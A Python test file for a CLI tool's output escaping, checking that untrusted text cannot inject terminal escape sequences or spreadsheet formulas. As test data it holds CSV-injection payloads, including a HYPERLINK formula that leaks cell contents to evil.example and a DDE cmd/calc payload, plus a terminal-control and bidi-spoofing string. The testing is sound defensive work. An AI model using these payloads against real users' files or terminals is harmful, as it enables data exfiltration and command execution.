"""Nothing from elsewhere reaches a terminal raw, or a spreadsheet as a formula."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import click
import pytest
from click.testing import CliRunner
from hypothesis import given
from hypothesis import strategies as st
from rich.table import Table

from edgeinspect.cli import _terminal
from edgeinspect.cli.main import main
from edgeinspect.system.untrusted_text import (
    TableWriter,
    escape_cell,
    escape_json,
    escape_line,
    escape_lines,
    unescape_cell,
)

PACKAGE = Path(_terminal.__file__).resolve().parent.parent
ANYTHING = st.text(st.characters(), max_size=40)
HARMFUL = "\x1b]0;owned\x07\x1b[2J\u202egnp.exe\u2066\x9b31m\ud800\x00\r\n[red]x[/red]"
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "'=1+1",
    '"=1+1',
    "\u00a0=1+1",
    "\uff1d1+1",
    "\ufe661+1",
    "\ufe621",
    "\uff0b1",
    "\uff0d1+1",
    "\uff20x",
    "\x00=1+1",
    "\u202e=1+1",
    "\ufeff=1+1",
    "|calc",
    "%0A=1",
    "\u2212 1+1",
    "''=1",
    "=",
    "-",
    "+",
]


@given(ANYTHING)
def test_one_line_can_be_seen_and_stays_one_line(text: str) -> None:
    made = escape_line(text)
    assert made.isprintable()
    made.encode()
    assert escape_line(made) == made
    if text.isprintable():
        assert made == text


@given(ANYTHING)
def test_lines_keep_their_ends_alone(text: str) -> None:
    assert all(c.isprintable() or c in "\n\t" for c in escape_lines(text))
    assert escape_lines(text).count("\n") == text.count("\n")


@given(st.text(max_size=40))
def test_json_means_the_same(text: str) -> None:
    body = json.dumps({"x": text}, ensure_ascii=False)
    made = escape_json(body)
    assert made.replace("\n", "").isprintable()
    assert json.loads(made) == {"x": text}


@pytest.mark.parametrize("text", FORMULAS)
def test_no_cell_is_a_formula(text: str) -> None:
    cell = escape_cell(text)
    assert cell[0] in "'\\", repr(cell)
    assert cell.isprintable()


@pytest.mark.parametrize("text", ["x;=1+1", 'a; "=1+1', "a;;@x", "a;\uff1d1"])
def test_nor_where_a_semicolon_parts_columns(text: str) -> None:
    for part in escape_cell(text).split(";"):
        assert part.lstrip(' "')[:1] not in {"=", "@", "\uff1d"}
    assert unescape_cell(escape_cell(text)) == text


@given(st.one_of(ANYTHING, st.sampled_from(FORMULAS)).map(lambda s: s))
def test_a_row_is_one_row_and_comes_back(text: str) -> None:
    file = io.StringIO(newline="")
    TableWriter(file).writerow([1, text, None, -2.5])
    (row,) = csv.reader(io.StringIO(file.getvalue(), newline=""))
    assert (row[0], row[2], row[3]) == ("1", "", "-2.5")
    assert row[1].isprintable()
    if text.isprintable() and "'" not in text:
        assert unescape_cell(row[1]) == text


def test_numbers_stay_numbers() -> None:
    for value in (-1, -2.5, 1e-9, float("-inf"), None, True, "-3.25", "+1", "1e-05", "-inf"):
        assert escape_cell(value) == value


def test_what_commands_print(capsys: pytest.CaptureFixture[str]) -> None:
    _terminal.echo(f"part {HARMFUL}")
    console = _terminal.Console(width=300, force_terminal=True)
    console.print(f"part {HARMFUL}")
    table = Table("part", box=None)
    table.add_row(HARMFUL)
    console.print(table)
    told = capsys.readouterr().out
    for word in ("\x1b]", "\x1b[2J", "\u202e", "\u2066", "\x9b", "\ud800", "\x00", "\r"):
        assert word not in told
    assert told.count("[red]x[/red]") == 3, "no markup is taken out of it"
    assert "\\x1b]0;owned" in told


def test_an_error_about_a_file_with_a_name_of_its_own(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    name = "\x1b[2J\u202e\udc80.yaml"
    assert main(["check", str(tmp_path / name)]) == 78
    told = capsys.readouterr().err
    assert "\\x1B[2J\\u202E\\x80.yaml" in told
    assert "\x1b" not in told
    assert main(["check", "--\x1b[31m"]) == 64
    assert "\x1b" not in capsys.readouterr().err


def test_a_bare_command_of_click_still_works() -> None:
    @click.command()
    def bare() -> None:
        _terminal.echo("x\x1b[1my", err=False)

    assert CliRunner().invoke(bare).output == "x\\x1b[1my\n"
